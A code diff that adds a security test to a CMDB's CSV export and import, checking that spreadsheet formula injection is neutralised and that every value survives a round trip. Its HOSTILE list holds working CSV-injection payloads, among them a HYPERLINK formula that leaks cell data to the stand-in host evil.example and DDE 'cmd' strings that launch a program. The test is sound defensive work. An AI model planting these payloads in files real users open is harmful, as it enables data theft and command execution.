@@ -2,11 +2,11 @@ import t from 'tap'
 import WebSocket from 'ws'
 import { parse } from 'csv-parse/sync'
 import type { TestKernel } from '@monozu/kernel/testing'
-import { client, licensedTenant, startCmdb, type Client } from './helpers.ts'
+import { appliancePlugins, client, discover, enrolAppliance, licensedTenant, startCmdb, type Client } from './helpers.ts'
 
 const MAX_BYTES = 512 * 1024
 let k: TestKernel
-t.before(async () => { k = await startCmdb({ pluginConfig: { cmdb: { maxImportBytes: MAX_BYTES } } }) })
+t.before(async () => { k = await startCmdb({ plugins: appliancePlugins, pluginConfig: { cmdb: { maxImportBytes: MAX_BYTES } } }) })
 t.teardown(() => k?.close())
 
 const upload = (api: Client, csv: string, query = '') => api.send('POST', `/api/v1/cmdb/import${query}`, csv, 'text/csv; charset=utf-8')
@@ -58,6 +58,67 @@ t.test('export then import of the same file changes nothing', async t => {
   t.match(real.body, { dryRun: false, applied: true, rows: 4, created: 0, updated: 0, unchanged: 4 })
   t.same((await api.get('/api/v1/cmdb/cis?limit=200')).body.items, before, 'every CI is exactly as before (versions too)')
   t.equal((await api.get(`/api/v1/cmdb/changes?requestId=${real.body.importId}`)).body.items.length, 0, 'nothing logged')
+})
+
+// Values a spreadsheet would run as formulas (OWASP CSV Injection), and values that look like
+// the escape itself: an export must neutralise the first and give every one back on import.
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?leak="&A2,"Open")',
+  '+1+cmd|\' /C calc\'!A0',
+  '-2+3',
+  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  '\uFF1D1+1',
+  "'=x",
+  "''+y",
+  '-5',
+  "'just an apostrophe"
+]
+const escaped = (v: string) => /^'*[=+\-@\uFF1D]/.test(v)
+
+t.test('an export neutralises formula cells from users and appliances; importing it gives every value back', async t => {
+  const { tenant, admin } = await licensedTenant(k)
+  const api = client(k, admin)
+  const type = await api.post('/api/v1/cmdb/types', { key: 'ledger', label: 'Ledger', fields: [{ key: 'memo', label: 'Memo', kind: 'text' }, { key: 'delta', label: 'Delta', kind: 'integer' }] })
+  t.equal(type.status, 201)
+  for (const [i, v] of HOSTILE.entries()) {
+    const made = await api.post('/api/v1/cmdb/cis', { type: 'ledger', name: v, memo: v, description: `${v} (description)`, site: v.slice(0, 100), delta: -5 - i })
+    t.equal(made.status, 201, JSON.stringify(made.body))
+  }
+  // A compromised appliance reports hostile text in the fields it discovers.
+  await discover(k, await enrolAppliance(k, admin), tenant, [
+    { source: 'agent', ciType: 'server', serial: '-sn-evil', fields: { os: '=cmd|\' /C calc\'!A0', manufacturer: '@evil', osVersion: '+1' } }
+  ])
+
+  const raw = (await api.get('/api/v1/cmdb/export')).raw.body
+  const rows = parse(raw, { columns: true }) as Array<Record<string, string>>
+  const ledgers = rows.filter(r => r.type === 'ledger')
+  t.equal(ledgers.length, HOSTILE.length)
+  for (const v of HOSTILE) {
+    const row = ledgers.find(r => r.memo === (escaped(v) ? `'${v}` : v))
+    t.ok(row, `memo ${JSON.stringify(v)} is written ${escaped(v) ? 'with one apostrophe before it' : 'as it is'}`)
+    t.equal(row?.name, escaped(v) ? `'${v}` : v, 'the name too')
+  }
+  t.ok(ledgers.every(r => /^-\d+$/.test(r.delta ?? '')), 'a negative number stays a number')
+  const server = rows.find(r => r.type === 'server')
+  t.match(server, { name: "'-SN-EVIL", serial: "'-SN-EVIL", os: "'=cmd|' /C calc'!A0", manufacturer: "'@evil", osVersion: "'+1" }, 'values an appliance sent are neutralised too')
+  t.ok(raw.includes('"\'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")"'), 'every cell is double-quoted, inner quotes doubled')
+  t.notOk(/(^|,)[=+\-@]/m.test(raw), 'no cell in the file begins with a formula character')
+
+  // Round trip: into a new tenant (without the ids), every value arrives exactly as it was.
+  const other = await licensedTenant(k)
+  const otherApi = client(k, other.admin)
+  t.equal((await otherApi.post('/api/v1/cmdb/types', { key: 'ledger', label: 'Ledger', fields: [{ key: 'memo', label: 'Memo', kind: 'text' }, { key: 'delta', label: 'Delta', kind: 'integer' }] })).status, 201)
+  const withoutIds = raw.split('\r\n').map(line => line.replace(/^"[^"]*",/, '')).join('\r\n')
+  const imported = await upload(otherApi, withoutIds)
+  t.match(imported.body, { applied: true, created: HOSTILE.length + 1 }, JSON.stringify(imported.body.errors ?? []))
+  const fields = ['type', 'name', 'status', 'site', 'description', 'hostname', 'serial', 'memo', 'delta', 'os', 'manufacturer', 'osVersion']
+  const pick = (ci: Record<string, unknown>) => Object.fromEntries(fields.filter(f => ci[f] !== undefined).map(f => [f, ci[f]]))
+  const mine = (await api.get('/api/v1/cmdb/cis?limit=200')).body.items.map(pick)
+  t.same((await otherApi.get('/api/v1/cmdb/cis?limit=200')).body.items.map(pick), mine, 'the same CIs, every field exactly the same')
+
+  // And into the same tenant, with the ids: nothing changes.
+  const again = await upload(api, raw)
+  t.match(again.body, { applied: true, created: 0, updated: 0, unchanged: HOSTILE.length + 1 })
 })
 
 t.test('an import creates and updates; dry run shows what would change without changing it', async t => {
